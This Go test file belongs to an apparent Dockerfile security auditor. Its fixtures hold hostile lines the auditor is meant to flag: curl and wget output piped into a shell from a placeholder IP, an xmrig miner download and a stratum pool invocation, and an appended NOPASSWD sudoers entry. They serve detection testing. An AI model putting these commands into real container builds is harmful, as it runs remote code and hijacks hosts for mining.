package dockerfile

import (
	"context"
	"testing"

	"github.com/minewarden/minewarden"
	"github.com/minewarden/minewarden/internal/audittest"
)

func files() []audittest.File {
	f := func(name, text string, fails ...string) audittest.File {
		return audittest.File{Name: name, Path: "build/Dockerfile", Text: "FROM debian:12\n" + text + "USER 1000\n", Fails: fails}
	}
	return []audittest.File{
		f("sound", "RUN apt-get update && apt-get install -y curl\nCMD [\"sleep\", \"1\"]\n"),
		f("a miner is fetched", "RUN curl -LO https://example.org/xmrig-6.21.0-linux-x64.tar.gz\n", ruleMiner),
		f("a miner is started", "CMD [\"/app\", \"-o\", \"stratum+tcp://pool.example.org:3333\", \"-u\", \"x\"]\n", ruleMiner),
		{Name: "built from a miner", Path: "Containerfile", Text: "FROM metal3d/xmrig:latest\nUSER 1\n", Fails: []string{ruleMiner}, Line: 1},
		{Name: "downloader on a continued line", Path: "Dockerfile.prod", Text: "FROM debian:12\nRUN apt-get update \\\n  # a comment between\n  && curl -s http://198.51.100.7/i.sh | sh\nUSER 1\n", Fails: []string{ruleDownloader}, Line: 4},
		f("downloader in a here-document", "RUN <<EOF\nset -e\nwget -qO- http://198.51.100.7/i.sh | bash\nEOF\n", ruleDownloader),
		f("insecure build", "RUN --security=insecure make\n", ruleInsecure),
		f("host network for a step", "RUN --network=host make\n", ruleInsecure),
		f("network=host as an argument of a program", "RUN tool --network=host\n"),
		f("certificates are not checked", "RUN curl -ksSL https://example.org/a -o /a\n", ruleNoVerify),
		f("wget does not check", "RUN wget --no-check-certificate https://example.org/a\n", ruleNoVerify),
		f("ADD without encryption", "ADD http://example.org/a.tgz /\n", ruleNoVerify),
		f("ADD with a checksum", "ADD --checksum=sha256:00 http://example.org/a.tgz /\n"),
		f("world-writable", "RUN chmod -R 777 /app\n", ruleWritable),
		f("modes that are sound", "RUN chmod 755 /app && chmod 1777 /x || chmod 0640 /y\n"),
		f("sudo without a password", "RUN echo 'app ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers\n", ruleSudo),
		f("consul -dev for all", "ENTRYPOINT [\"consul\", \"agent\", \"-dev\"]\nCMD [\"-client\", \"0.0.0.0\"]\n", ruleFlags),
		{Name: "root at the end", Path: "Dockerfile", Text: "FROM a AS b\nUSER 1\nFROM c\nUSER 1\nUSER root\n", Fails: []string{ruleRoot}, Line: 5},
		{Name: "nobody says who", Path: "Dockerfile", Text: "FROM a\nCMD [\"x\"]\n", Fails: []string{ruleRoot}},
		{Name: "a base without root", Path: "Dockerfile", Text: "FROM gcr.io/distroless/static:nonroot\nCMD [\"/x\"]\n"},
	}
}

func TestDockerfiles(t *testing.T) { audittest.Files(t, New, files()) }

func FuzzDockerfile(f *testing.F) {
	for _, x := range files() {
		f.Add([]byte(x.Text))
	}
	a, err := New(minewarden.Env{})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		if len(data) > 1<<16 {
			return
		}
		v, err := a.Audit(context.Background(), minewarden.Target{Kind: minewarden.TargetFile, Path: "Dockerfile", Data: data})
		if err != nil {
			t.Fatal(err)
		}
		for _, c := range v.Checks {
			if c.Finding != nil && c.Subject.Line < 1 {
				t.Errorf("%s has no line", c.Rule)
			}
		}
	})
}
